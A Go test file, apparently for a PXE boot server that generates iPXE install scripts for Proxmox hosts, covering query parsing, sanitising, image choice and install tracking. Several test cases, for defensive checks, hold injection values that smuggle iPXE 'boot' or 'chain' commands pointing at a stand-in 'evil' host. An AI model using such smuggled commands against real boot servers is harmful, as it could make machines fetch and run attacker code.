package main

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

func TestParseBootQuery(t *testing.T) {
	tests := []struct {
		name           string
		query          string
		macs           []string
		serial, uuid   string
		fw             firmware
		bad            []string
		wantSerialKey  string // as a host file is named by it; "" for none
		wantUUIDKeyLen int
	}{
		{name: "as_ipxe_expands_it", query: "mac=aa:bb:cc:dd:ee:ff&uuid=4C4C4544-0042-4A10-8046-B2C04F4E3132&serial=S1",
			macs: []string{"aabbccddeeff"}, serial: "S1", uuid: "4C4C4544-0042-4A10-8046-B2C04F4E3132", wantSerialKey: "S1", wantUUIDKeyLen: 36},
		{name: "repeated_mac_unset_ones_empty", query: "mac=aa:bb:cc:dd:ee:ff&mac=&mac=02:00:00:00:00:01&mac=",
			macs: []string{"aabbccddeeff", "020000000001"}},
		{name: "repeated_mac_twice_the_same_once", query: "mac=aa:bb:cc:dd:ee:ff&mac=AA-BB-CC-DD-EE-FF", macs: []string{"aabbccddeeff"}},
		{name: "hyphen_macs", query: "mac=aa-bb-cc-dd-ee-ff", macs: []string{"aabbccddeeff"}},
		{name: "raw_ampersand_in_serial_keeps_the_macs", query: "serial=AB&CD&mac=aa:bb:cc:dd:ee:ff&uuid=",
			macs: []string{"aabbccddeeff"}, serial: "AB&CD"},
		{name: "escaped_ampersand_in_serial", query: "serial=AB%26CD&mac=aa:bb:cc:dd:ee:ff", macs: []string{"aabbccddeeff"}, serial: "AB&CD"},
		{name: "escaped_space_in_serial", query: "serial=S%201&mac=aa:bb:cc:dd:ee:ff", macs: []string{"aabbccddeeff"}, serial: "S 1"},
		{name: "every_value_empty", query: "mac=&uuid=&serial="},
		{name: "no_query", query: ""},
		{name: "extra_parameters_ignored", query: "mac=aa:bb:cc:dd:ee:ff&buildarch=x86_64&manufacturer=QEMU", macs: []string{"aabbccddeeff"}},
		{name: "platform_and_version", query: "mac=aa:bb:cc:dd:ee:ff&uuid=&platform=efi&version=1.21.1%2B%20%28g4bffe%29&serial=S1",
			macs: []string{"aabbccddeeff"}, serial: "S1", wantSerialKey: "S1", fw: firmware{"efi", "1.21.1+ (g4bffe)"}},
		{name: "platform_and_version_after_serial", query: "mac=aa:bb:cc:dd:ee:ff&serial=S1&platform=pcbios&version=1.0.0%2B",
			macs: []string{"aabbccddeeff"}, serial: "S1", wantSerialKey: "S1", fw: firmware{"pcbios", "1.0.0+"}},
		{name: "junk_mac_is_bad", query: "mac=zz:bb:cc:dd:ee:ff&mac=aa:bb:cc:dd:ee:ff", macs: []string{"aabbccddeeff"}, bad: []string{`"zz:bb:cc:dd:ee:ff"`}},
		{name: "junk_without_equals", query: "&&=&mac", bad: nil},
		{name: "injection_in_serial_names_no_file", query: "mac=aa:bb:cc:dd:ee:ff&serial=x%0aboot%20http://evil",
			macs: []string{"aabbccddeeff"}, serial: "x\nboot http://evil"},
		{name: "injection_in_mac_is_bad", query: "mac=aa:bb:cc:dd:ee:ff%0aboot", bad: []string{`"aa:bb:cc:dd:ee:ff\nboot"`}},
		{name: "bad_escape_kept_for_vetting", query: "serial=%zz", serial: "%zz"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			req, fw, bad := parseBootQuery(tc.query)
			if !slices.Equal(req.macs, tc.macs) || req.serial != tc.serial || req.uuid != tc.uuid || !slices.Equal(bad, tc.bad) {
				t.Errorf("parseBootQuery(%q) = macs %q serial %q uuid %q bad %q; want %q %q %q %q", tc.query, req.macs, req.serial, req.uuid, bad, tc.macs, tc.serial, tc.uuid, tc.bad)
			}
			if fw != tc.fw {
				t.Errorf("parseBootQuery(%q) = firmware %+v; want %+v", tc.query, fw, tc.fw)
			}
			if len(req.links) != len(req.macs) {
				t.Errorf("parseBootQuery(%q): %d links for %d MACs", tc.query, len(req.links), len(req.macs))
			}
			ids := req.ids()
			if ids[0].key != tc.wantSerialKey || len(ids[1].key) != tc.wantUUIDKeyLen {
				t.Errorf("parseBootQuery(%q): serial key %q, uuid key %q; want %q and a UUID of %d", tc.query, ids[0].key, ids[1].key, tc.wantSerialKey, tc.wantUUIDKeyLen)
			}
		})
	}
}

func TestIPXEText(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain_message_kept", "pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml:2:6: expected ']'", "pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml:2:6: expected ]"},
		{"newline_cannot_start_a_command", "x\nboot http://evil", "x boot http://evil"},
		{"settings_not_expanded", "${net0/mac} ${root-path}", "net0/mac root-path"},
		{"no_command_joins", "a || chain http://evil && boot", "a  chain http://evil  boot"},
		{"quotes_backslash_and_comment_dropped", `say "hi" 'x' \ #c`, "say hi x  c"},
		{"semicolon_is_a_comma", "a ; reboot", "a , reboot"},
		{"non_ascii_dropped", "café\x7f", "caf "},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := ipxeText(tc.in); got != tc.want {
				t.Errorf("ipxeText(%q) = %q; want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestEchoLines(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"one_clause", "pxe-pilot: no host file names this machine", "echo pxe-pilot: no host file names this machine"},
		{"a_line_a_clause", "pxe-pilot: global.fqdn: missing; set hostname (with global.domain) or global.fqdn",
			"echo pxe-pilot: global.fqdn: missing\necho   set hostname (with global.domain) or global.fqdn"},
		{"commas_stay", "pxe-pilot: x: ntfs is not one of ext4, xfs; see the README", "echo pxe-pilot: x: ntfs is not one of ext4, xfs\necho   see the README"},
		{"a_semicolon_without_a_space_is_a_comma", "a;b", "echo a,b"},
		{"newline_starts_no_command", "x\nboot http://evil; y", "echo x boot http://evil\necho   y"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := echoLines(tc.in); got != tc.want {
				t.Errorf("echoLines(%q) =\n%s\nwant\n%s", tc.in, got, tc.want)
			}
		})
	}
}

// bootInstall is the install script of bootTree's image pve, from
// example.com, as httptest.NewRequest names the server.
const bootInstall = `#!ipxe
kernel http://example.com/boot/pve/vmlinuz ramdisk_size=16777216 rw quiet initrd=initrd.img splash=silent proxmox-start-auto-installer
initrd http://example.com/boot/pve/initrd.img
initrd http://example.com/boot/pve/proxmox-ve_9.1-1-auto-from-http.iso proxmox.iso
boot
`

// scriptServer serves /boot.ipxe from config files and a --boot-dir with
// bootTree's image and moreImages; installed are machines the state dir
// says were installed (nil: no tracking).
func scriptServer(t *testing.T, files, moreImages map[string]string, installed []string) (*server, *bytes.Buffer) {
	t.Helper()
	s, log := testServer(t, files)
	s.bootDir = bootTree(t, moreImages)
	if installed != nil {
		st := trackStore(t)
		for _, key := range installed {
			at := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
			if _, err := st.updateHost(key, func(r *hostRecord) { r.Answers, r.Installed = 1, at }); err != nil {
				t.Fatal(err)
			}
		}
		s.track = &tracker{state: st}
	}
	return s, log
}

// getScript fetches /boot.ipxe?query, checking what every answer shares:
// 200, text/plain, one #!ipxe script.
func getScript(t *testing.T, s *server, query string) string {
	t.Helper()
	rec := send(s, "GET", "/boot.ipxe?"+query, nil)
	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "text/plain; charset=utf-8" {
		t.Fatalf("GET /boot.ipxe?%s = %d %q, %q; want 200 text/plain", query, rec.Code, rec.Header().Get("Content-Type"), rec.Body)
	}
	if !strings.HasPrefix(rec.Body.String(), "#!ipxe\n") {
		t.Fatalf("GET /boot.ipxe?%s = %q; want a #!ipxe script", query, rec.Body)
	}
	return rec.Body.String()
}

func TestBootScript(t *testing.T) {
	const mac = "mac=aa:bb:cc:dd:ee:ff"
	twoImages := map[string]string{"pve-8/boot.ipxe": "kernel k " + autoMarker + " quiet\ninitrd --name init.img i\nboot\n", "pve-8/k": "k", "pve-8/i": "i"}
	withLine := func(files map[string]string, file, line string) map[string]string {
		files[file] = line + "\n" + files[file]
		return files
	}
	withKey := func(files map[string]string, file, key string) map[string]string {
		return withLine(files, file, "boot-image = \""+key+"\"")
	}
	tests := []struct {
		name      string
		files     map[string]string
		images    map[string]string // beside bootTree's pve
		installed []string          // nil: no tracking
		localBoot string
		settle    bool // a deploy is under way
		query     string
		want      string
		wantLog   []string
	}{
		{name: "one_image_installs", files: goodConfig(), query: mac, want: bootInstall,
			wantLog: []string{"boot=install", "image=pve", "host=hosts/aa-bb-cc-dd-ee-ff.toml", `match="mac aa:bb:cc:dd:ee:ff"`}},
		{name: "second_nic_names_the_host", files: goodConfig(), query: "mac=02:00:00:00:00:01&" + mac + "&uuid=&serial=", want: bootInstall,
			wantLog: []string{"boot=install", "host=hosts/aa-bb-cc-dd-ee-ff.toml"}},
		{name: "key_names_one_of_several", files: withKey(goodConfig(), hostFile, "pve-8"), images: twoImages, query: mac,
			want:    "#!ipxe\nkernel http://example.com/boot/pve-8/k " + autoMarker + " quiet\ninitrd --name init.img http://example.com/boot/pve-8/i\nboot\n",
			wantLog: []string{"boot=install", "image=pve-8"}},
		{name: "key_in_defaults", files: withKey(goodConfig(), "defaults.toml", "pve"), images: twoImages, query: mac, want: bootInstall,
			wantLog: []string{"image=pve"}},
		{name: "several_without_key_is_broken", files: goodConfig(), images: twoImages, query: mac,
			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml: no boot-image, and --boot-dir has 2 images (pve, pve-8): say which one this machine installs with boot-image = pve in its host file, a profile or defaults.toml\nsleep 5\nexit 1\n",
			wantLog: []string{"boot=broken", "error="}},
		{name: "key_naming_no_image_is_broken", files: withKey(goodConfig(), hostFile, "pve-7"), query: mac,
			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml: boot-image: pve-7 is not an image in --boot-dir\necho   there are: pve\nsleep 5\nexit 1\n",
			wantLog: []string{"boot=broken"}},
		{name: "installed_boots_its_disk_by_exit", files: goodConfig(), installed: []string{"aa-bb-cc-dd-ee-ff"}, query: mac,
			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk\necho   to install it again, run: pxe-pilot rearm --state-dir STATE aa-bb-cc-dd-ee-ff\nexit 1\n",
			wantLog: []string{"boot=local", "reason=installed"}},
		{name: "installed_boots_its_disk_by_sanboot", files: goodConfig(), installed: []string{"aa-bb-cc-dd-ee-ff"}, localBoot: "sanboot", query: mac,
			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk\necho   to install it again, run: pxe-pilot rearm --state-dir STATE aa-bb-cc-dd-ee-ff\nsanboot --no-describe --drive 0x80\n",
			wantLog: []string{"boot=local"}},
		{name: "boot_args_from_defaults_end_the_kernel_line", files: withLine(goodConfig(), "defaults.toml", `boot-args = "console=tty0  console=ttyS0,115200"`), query: mac,
			want:    strings.Replace(bootInstall, autoMarker+"\n", autoMarker+" console=tty0 console=ttyS0,115200\n", 1),
			wantLog: []string{"boot=install"}},
		{name: "boot_args_of_the_host_file_win", files: withLine(withLine(goodConfig(), "defaults.toml", `boot-args = "console=ttyS0"`), hostFile, `boot-args = "console=ttyS1,115200n8"`), query: mac,
			want: strings.Replace(bootInstall, autoMarker+"\n", autoMarker+" console=ttyS1,115200n8\n", 1)},
		{name: "empty_boot_args_clear_the_defaults", files: withLine(withLine(goodConfig(), "defaults.toml", `boot-args = "console=ttyS0"`), hostFile, `boot-args = ""`), query: mac,
			want: bootInstall},
		{name: "bad_boot_args_are_broken", files: withLine(goodConfig(), hostFile, `boot-args = "quiet ${x}"`), query: mac,
			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml: boot-args: quiet x holds ..., which iPXE would expand: write the value itself\nsleep 5\nexit 1\n",
			wantLog: []string{"boot=broken"}},
		{name: "efi_ipxe_before_loadfile2_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.0.0%2B", wantLog: []string{"boot=unfit", `ipxe="efi 1.0.0+"`},
			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.0.0+, too old to give the installer its ISO: the installer would find no /proxmox.iso\n" +
				"echo   chain an ipxe.efi of iPXE 2.0, or of Debian 13 (package ipxe, /usr/lib/ipxe/ipxe.efi), from DHCP instead\necho   or boot this machine in BIOS mode\nsleep 5\nexit 1\n"},
		{name: "efi_ipxe_1_21_1_release_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1", wantLog: []string{"boot=unfit"},
			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.21.1, too old"},
		{name: "debian_12_efi_ipxe_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.0.0%2Bgit-20190125.36a4c85-5.1", wantLog: []string{"boot=unfit"},
			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.0.0+git-20190125.36a4c85-5.1, too old"},
		{name: "efi_ipxe_from_git_before_loadfile2_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1%2Bgit-20220113.fbbdc3926-0ubuntu1", wantLog: []string{"boot=unfit"},
			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.21.1+git-20220113.fbbdc3926-0ubuntu1, too old"},
		{name: "injected_version_shows_as_text_and_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.0.0%2B%0Achain%20http://evil/$%7Bx%7D%20%7C%7C%20reboot", wantLog: []string{"boot=unfit"},
			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.0.0+ chain http://evil/x  reboot, too old"},
		{name: "efi_ipxe_from_git_after_loadfile2_installs", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1%2Bgit20250501.42e58d6-1", want: bootInstall, wantLog: []string{"boot=install"}},
		{name: "efi_ipxe_built_after_1_21_1_installs", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1%2B%20%28g4bffe%29", want: bootInstall, wantLog: []string{"boot=install"}},
		{name: "efi_ipxe_2_installs", files: goodConfig(), query: mac + "&platform=efi&version=2.0.0", want: bootInstall, wantLog: []string{"boot=install"}},
		{name: "bios_ipxe_of_any_version_installs", files: goodConfig(), query: mac + "&platform=pcbios&version=1.0.0%2B", want: bootInstall, wantLog: []string{"boot=install"}},
		{name: "unsaid_version_installs", files: goodConfig(), query: mac + "&platform=efi&version=", want: bootInstall, wantLog: []string{"boot=install"}},
		{name: "installed_boots_its_disk_whatever_its_ipxe", files: goodConfig(), installed: []string{"aa-bb-cc-dd-ee-ff"}, query: mac + "&platform=efi&version=1.0.0%2B",
			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk\necho   to install it again, run: pxe-pilot rearm --state-dir STATE aa-bb-cc-dd-ee-ff\nexit 1\n",
			wantLog: []string{"boot=local"}},
		{name: "installed_bios_machine_exits_with_0", files: goodConfig(), installed: []string{"aa-bb-cc-dd-ee-ff"}, query: mac + "&platform=pcbios",
			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk\necho   to install it again, run: pxe-pilot rearm --state-dir STATE aa-bb-cc-dd-ee-ff\nexit\n",
			wantLog: []string{"boot=local"}},
		{name: "unknown_bios_machine_exits_with_0", files: goodConfig(), query: "mac=02:00:00:00:00:01&platform=pcbios",
			want:    "#!ipxe\necho pxe-pilot: no host file names this machine: create hosts/02-00-00-00-00-01.toml to install it (or hosts/default.toml for every machine without one)\nexit\n",
			wantLog: []string{"boot=unknown"}},
		{name: "tracked_never_answered_installs", files: goodConfig(), installed: []string{}, query: mac, want: bootInstall,
			wantLog: []string{"boot=install", "attempt=1"}},
		{name: "unknown_names_the_file_to_create", files: goodConfig(), query: "mac=02:00:00:00:00:01&mac=02:00:00:00:00:02",
			want:    "#!ipxe\necho pxe-pilot: no host file names this machine: create hosts/02-00-00-00-00-01.toml to install it (or hosts/default.toml for every machine without one)\nexit 1\n",
			wantLog: []string{"boot=unknown", "tried=02:00:00:00:00:01,02:00:00:00:00:02"}},
		{name: "unknown_without_mac", files: goodConfig(), query: "serial=S1",
			want:    "#!ipxe\necho pxe-pilot: no host file names this machine, and the boot script URL names no MAC: add mac=... to the chain URL, or create hosts/default.toml\nexit 1\n",
			wantLog: []string{"boot=unknown", "tried=serial:S1"}},
		{name: "serial_names_the_host", files: map[string]string{"defaults.toml": goodDefaults, "hosts/serial-S1.toml": goodHost}, query: "mac=02:00:00:00:00:01&serial=S1", want: bootInstall,
			wantLog: []string{"boot=install", `match="serial S1"`}},
		{name: "default_toml_installs_any_machine", files: map[string]string{"defaults.toml": goodDefaults, "hosts/default.toml": goodHost}, query: "mac=02:00:00:00:00:01", want: bootInstall,
			wantLog: []string{"boot=install", "match=default"}},
		{name: "injected_serial_reaches_no_script", files: goodConfig(), query: "mac=02:00:00:00:00:01&serial=x%0aboot%20http://evil",
			want:    "#!ipxe\necho pxe-pilot: no host file names this machine: create hosts/02-00-00-00-00-01.toml to install it (or hosts/default.toml for every machine without one)\nexit 1\n",
			wantLog: []string{"boot=unknown"}},
		{name: "broken_host_file", files: map[string]string{"defaults.toml": goodDefaults, hostFile: brokenHost}, query: mac,
			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml:2:6: expected ] to close table name\nsleep 5\nexit 1\n",
			wantLog: []string{"boot=broken", "host=hosts/aa-bb-cc-dd-ee-ff.toml"}},
		{name: "config_dir_being_deployed", files: map[string]string{hostFile: goodHost}, settle: true, query: mac,
			want:    "#!ipxe\necho pxe-pilot: the config dir is being changed (the config dir changed",
			wantLog: []string{"boot=broken"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, log := scriptServer(t, tc.files, tc.images, tc.installed)
			s.localBoot = tc.localBoot
			if tc.settle {
				withSettleTime(t, time.Hour)
			}
			got := getScript(t, s, tc.query)
			if s.track != nil {
				got = strings.ReplaceAll(got, s.track.state.dir, "STATE")
			}
			if got != tc.want && !((tc.settle || strings.HasSuffix(tc.name, "_unfit")) && strings.HasPrefix(got, tc.want)) {
				t.Errorf("GET /boot.ipxe?%s =\n%s\nwant\n%s", tc.query, got, tc.want)
			}
			line := requestLine(t, tc.name, log)
			for _, w := range tc.wantLog {
				if !strings.Contains(line, w) {
					t.Errorf("log line %s\nwants %s", line, w)
				}
			}
		})
	}
}

// A broken config's script shows the error /answer sends, a line for each
// of its clauses.
func TestBootScriptBrokenSaysWhatAnswerSays(t *testing.T) {
	for name, files := range map[string]map[string]string{
		"broken_host_file":         {"defaults.toml": goodDefaults, hostFile: brokenHost},
		"broken_defaults":          {"defaults.toml": "[disk\n", hostFile: goodHost},
		"missing_profile":          {"defaults.toml": goodDefaults, hostFile: "profiles = [\"gone\"]\n" + goodHost},
		"bad_boot_image_value":     {"defaults.toml": goodDefaults, hostFile: "boot-image = 7\n" + goodHost},
		"boot_image_not_a_name":    {"defaults.toml": goodDefaults, hostFile: "boot-image = \"../x\"\n" + goodHost},
		"answer_would_not_compose": {"defaults.toml": goodDefaults, hostFile: "[disk]\ntarget = \"sda\"\n"},
		"answer_fails_validation":  {"defaults.toml": goodDefaults, hostFile: goodHost + "filesystem = \"ntfs\"\n"},
	} {
		t.Run(name, func(t *testing.T) {
			s, _ := scriptServer(t, files, nil, nil)
			answer := send(s, "POST", "/answer", strings.NewReader(installerBody("pve", "9.2", "aa:bb:cc:dd:ee:ff")))
			if answer.Code != http.StatusInternalServerError {
				t.Fatalf("POST /answer = %d %q; want 500", answer.Code, answer.Body)
			}
			want := "#!ipxe\n" + echoLines(strings.TrimSuffix(answer.Body.String(), "\n")) + "\nsleep 5\nexit 1\n"
			if got := getScript(t, s, "mac=aa:bb:cc:dd:ee:ff"); got != want {
				t.Errorf("GET /boot.ipxe =\n%s\nwant\n%s", got, want)
			}
		})
	}
}

func TestBootScriptURLs(t *testing.T) {
	tests := []struct {
		name, publicURL, host string
		want                  string // the kernel line's start, or the echo's
	}{
		{name: "from_the_host_header", host: "10.0.0.2:8080", want: "kernel http://10.0.0.2:8080/boot/pve/vmlinuz "},
		{name: "from_public_url", publicURL: "https://pxe.example.com:8443", host: "10.0.0.2:8080", want: "kernel https://pxe.example.com:8443/boot/pve/vmlinuz "},
		{name: "odd_host_header_is_broken", host: "evil${x}", want: "echo pxe-pilot: the requests Host evilx is not a host name or address"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, _ := scriptServer(t, goodConfig(), nil, nil)
			if tc.publicURL != "" {
				s.track = &tracker{publicURL: tc.publicURL}
			}
			r, _ := http.NewRequest("GET", "/boot.ipxe?mac=aa:bb:cc:dd:ee:ff", nil)
			r.Host, r.RemoteAddr = tc.host, "10.0.0.9:1234"
			rec := &recorder{header: http.Header{}}
			s.ServeHTTP(rec, r)
			if lines := strings.Split(rec.body.String(), "\n"); len(lines) < 2 || !strings.HasPrefix(lines[1], tc.want) {
				t.Errorf("script =\n%s\nwant its second line to start %q", rec.body.String(), tc.want)
			}
		})
	}
}

// recorder is a ResponseWriter for a request made by hand.
type recorder struct {
	header http.Header
	body   bytes.Buffer
}

func (r *recorder) Header() http.Header         { return r.header }
func (r *recorder) WriteHeader(int)             {}
func (r *recorder) Write(b []byte) (int, error) { return r.body.Write(b) }

func TestBootScriptRoutes(t *testing.T) {
	s, _ := scriptServer(t, goodConfig(), nil, nil)
	if rec := send(s, "HEAD", "/boot.ipxe?mac=aa:bb:cc:dd:ee:ff", nil); rec.Code != 200 || rec.Header().Get("Content-Length") != strconv.Itoa(len(bootInstall)) {
		t.Errorf("HEAD /boot.ipxe = %d, Content-Length %q; want 200, %d", rec.Code, rec.Header().Get("Content-Length"), len(bootInstall))
	}
	if rec := send(s, "POST", "/boot.ipxe", nil); rec.Code != http.StatusMethodNotAllowed || !strings.Contains(rec.Body.String(), "/boot.ipxe takes GET") {
		t.Errorf("POST /boot.ipxe = %d %q; want 405 saying it takes GET", rec.Code, rec.Body)
	}
	noBootDir, _ := testServer(t, goodConfig())
	if rec := send(noBootDir, "GET", "/boot.ipxe", nil); rec.Code != http.StatusNotFound {
		t.Errorf("GET /boot.ipxe without --boot-dir = %d %q; want 404", rec.Code, rec.Body)
	}
}

// The loop tracking closes: an answer leaves the machine to install again
// at its next boot, a repeated attempt; its report sends it to its disk;
// rearm installs it again.
func TestBootScriptTrackingLoop(t *testing.T) {
	s, log := scriptServer(t, goodConfig(), nil, nil)
	tr, err := newTracker(s.dir, "http://example.com", "", t.TempDir(), false, false)
	if err != nil {
		t.Fatal(err)
	}
	s.track = tr
	const key = "aa-bb-cc-dd-ee-ff"
	boot := func(step, want string, wantLog ...string) {
		t.Helper()
		log.Reset()
		if got := getScript(t, s, "mac=aa:bb:cc:dd:ee:ff"); !strings.HasPrefix(got, want) {
			t.Errorf("%s: script =\n%s\nwant it to start\n%s", step, got, want)
		}
		line := requestLine(t, step, log)
		for _, w := range wantLog {
			if !strings.Contains(line, w) {
				t.Errorf("%s: log line %s\nwants %s", step, line, w)
			}
		}
	}
	answer := func() {
		t.Helper()
		if rec := send(s, "POST", "/answer", strings.NewReader(installerBody("pve", "9.2", "aa:bb:cc:dd:ee:ff"))); rec.Code != 200 {
			t.Fatalf("POST /answer = %d %q", rec.Code, rec.Body)
		}
	}
	boot("first boot", bootInstall, "boot=install", "attempt=1")
	answer()
	boot("boot after an answer with no report", bootInstall, "boot=install", "attempt=2")
	answer()
	boot("boot after two answers with no report", bootInstall, "attempt=3")
	token := tr.webhookToken(key)
	if rec := send(s, "POST", "/installed", bytes.NewReader(node01Report(&token).body())); rec.Code != 200 {
		t.Fatalf("POST /installed = %d %q", rec.Code, rec.Body)
	}
	boot("boot after the report", "#!ipxe\necho pxe-pilot: "+key+" was installed at ", "boot=local", "reason=installed")
	if _, err := tr.state.rearm(key, time.Now()); err != nil {
		t.Fatal(err)
	}
	boot("boot after rearm", bootInstall, "boot=install", "attempt=1")
}

func TestRenderBoot(t *testing.T) {
	config, bootDir := writeTree(t, goodConfig()), bootTree(t, nil)
	st := trackStore(t)
	if _, err := st.updateHost("aa-bb-cc-dd-ee-ff", func(r *hostRecord) { r.Answers, r.Installed = 1, time.Now() }); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		args    []string
		query   string // the query serve is sent, for the script it sends; "" for none
		tracked bool
		wantErr string
		wantOut string // stderr's line holds this
	}{
		{name: "install_as_served", args: []string{"--mac", "aa:bb:cc:dd:ee:ff", "--url", "http://example.com"}, query: "mac=aa:bb:cc:dd:ee:ff", wantOut: "boot=install"},
		{name: "local_as_served", args: []string{"--mac", "aa:bb:cc:dd:ee:ff", "--url", "http://example.com/", "--state-dir", st.dir, "--local-boot", "sanboot"},
			query: "mac=aa:bb:cc:dd:ee:ff", tracked: true, wantOut: "boot=local"},
		{name: "unknown_as_served", args: []string{"--mac", "02:00:00:00:00:02", "--serial", "S 1", "--url", "http://example.com"}, query: "mac=02:00:00:00:00:02&serial=S%201", wantOut: "boot=unknown"},
		{name: "default_url_is_noted", args: []string{"--mac", "aa:bb:cc:dd:ee:ff"}, wantOut: "pxe-pilot.invalid"},
		{name: "needs_boot_dir", args: []string{"--mac", "aa:bb:cc:dd:ee:ff", "--boot-dir", ""}, wantErr: "render --boot needs --boot-dir"},
		{name: "needs_a_machine", args: []string{}, wantErr: "needs --mac, --serial or --uuid"},
		{name: "bad_mac", args: []string{"--mac", "aa:bb"}, wantErr: `--mac "aa:bb": want a MAC`},
		{name: "bad_local_boot", args: []string{"--mac", "aa:bb:cc:dd:ee:ff", "--local-boot", "reboot"}, wantErr: `--local-boot "reboot"`},
		{name: "bad_url", args: []string{"--mac", "aa:bb:cc:dd:ee:ff", "--url", "pxe:8080"}, wantErr: `"pxe:8080"`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			clearServeEnv(t)
			var stdout, stderr bytes.Buffer
			args := append([]string{"render", "--boot", "--config-dir", config, "--boot-dir", bootDir}, tc.args...)
			err := run(args, &stdout, &stderr)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("%q = %v; want an error containing %q", args, err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatalf("%q = %v", args, err)
			}
			if !strings.Contains(stderr.String(), tc.wantOut) {
				t.Errorf("%q said %q; want %q in it", args, stderr.String(), tc.wantOut)
			}
			if tc.query == "" {
				return
			}
			s, _ := testServer(t, nil)
			s.dir, s.bootDir = config, bootDir
			if tc.tracked {
				s.track, s.localBoot = &tracker{state: st}, "sanboot"
			}
			if want := getScript(t, s, tc.query); stdout.String() != want {
				t.Errorf("%q printed\n%s\nserve sends\n%s", args, stdout.String(), want)
			}
		})
	}
}

// Every iPXE sends User-Agent: iPXE/VERSION, so a chain URL that says
// platform= alone still tells an iPXE too old from one that installs; a
// version= in the URL is taken first.
func TestBootScriptVersionFromUserAgent(t *testing.T) {
	tests := []struct{ name, query, userAgent, want string }{
		{"old_by_user_agent", "platform=efi", "iPXE/1.0.0+git-20190125.36a4c85-5.1", "boot=unfit"},
		{"new_by_user_agent", "platform=efi", "iPXE/2.0.0", "boot=install"},
		{"url_before_user_agent", "platform=efi&version=2.0.0", "iPXE/1.0.0+", "boot=install"},
		{"another_client_says_nothing", "platform=efi", "curl/8.5.0", "boot=install"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, log := scriptServer(t, goodConfig(), nil, nil)
			r := httptest.NewRequest("GET", "/boot.ipxe?mac=aa:bb:cc:dd:ee:ff&"+tc.query, nil)
			r.Header.Set("User-Agent", tc.userAgent)
			rec := httptest.NewRecorder()
			s.ServeHTTP(rec, r)
			if line := requestLine(t, tc.name, log); !strings.Contains(line, tc.want) {
				t.Errorf("log line %s\nwants %s; script:\n%s", line, tc.want, rec.Body)
			}
		})
	}
}

// boot-image and boot-args are for /boot.ipxe: the answer holds neither.
func TestBootKeysNeverReachTheAnswer(t *testing.T) {
	s, _ := scriptServer(t, map[string]string{
		"defaults.toml": "boot-args = \"console=ttyS0,115200\"\n" + goodDefaults,
		hostFile:        "boot-image = \"pve\"\n" + goodHost,
	}, nil, nil)
	rec := send(s, "POST", "/answer", strings.NewReader(installerBody("pve", "9.2", "aa:bb:cc:dd:ee:ff")))
	if rec.Code != http.StatusOK {
		t.Fatalf("POST /answer = %d %q; want 200", rec.Code, rec.Body)
	}
	if body := rec.Body.String(); strings.Contains(body, "boot-") || strings.Contains(body, "ttyS0") {
		t.Errorf("the answer holds a boot key:\n%s", body)
	}
	if got := getScript(t, s, "mac=aa:bb:cc:dd:ee:ff"); !strings.Contains(got, autoMarker+" console=ttyS0,115200\n") {
		t.Errorf("the install script's kernel line lacks the boot-args:\n%s", got)
	}
}

// validate takes boot-image as pxe-pilot's own key, and with --boot-dir
// checks that each host's names an image, or that there is only one.
func TestValidateBootImage(t *testing.T) {
	oneImage := bootTree(t, nil)
	twoImages := bootTree(t, map[string]string{"pve-8/boot.ipxe": "kernel k " + autoMarker + "\nboot\n", "pve-8/k": "k"})
	tests := []struct {
		name, host, bootDir string
		want                string // the one error line; "" for none
	}{
		{name: "key_without_boot_dir_is_accepted", host: "boot-image = \"pve-7\"\n" + goodHost},
		{name: "one_image_needs_no_key", host: goodHost, bootDir: oneImage},
		{name: "key_names_one_of_several", host: "boot-image = \"pve-8\"\n" + goodHost, bootDir: twoImages},
		{name: "several_without_key_is_error", host: goodHost, bootDir: twoImages,
